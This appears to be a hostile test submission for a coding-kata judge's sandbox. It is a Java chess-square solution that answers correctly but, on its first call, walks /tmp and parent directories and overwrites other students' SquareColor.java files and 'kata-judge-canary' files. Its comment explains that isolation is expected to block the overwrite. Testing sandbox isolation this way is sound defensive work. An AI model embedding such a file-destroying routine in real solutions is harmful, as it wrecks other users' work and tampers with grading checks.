// Hostile (policy off): looks for other students' sources and canaries under /tmp and the
// working directory's parents, and overwrites every one it can. bubblewrap shows it none; a root
// judge's child runs as a user of its own, who may write none of them: its answers stay right
// and every other file stays as it was (ACCEPTED).
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;

public class SquareColor {
    private static boolean done;

    public static boolean isLight(String coordinate) {
        if (!done) {
            done = true;
            for (Path root : new Path[] {Path.of("/tmp"), Path.of("").toAbsolutePath().getParent()}) {
                if (root == null) {
                    continue;
                }
                try (Stream<Path> files = Files.walk(root, 6)) {
                    files.filter(p -> p.endsWith("SquareColor.java") || p.toString().contains("kata-judge-canary"))
                            .filter(Files::isRegularFile)
                            .forEach(p -> {
                                try {
                                    Files.writeString(p, "// overwritten by a hostile submission\n");
                                } catch (Exception ignored) {
                                    // denied: keep looking
                                }
                            });
                } catch (Exception ignored) {
                    // unreadable parts of the tree
                }
            }
        }
        int file = coordinate.charAt(0) - 'a';
        int rank = coordinate.charAt(1) - '1';
        return (file + rank) % 2 == 1;
    }
}
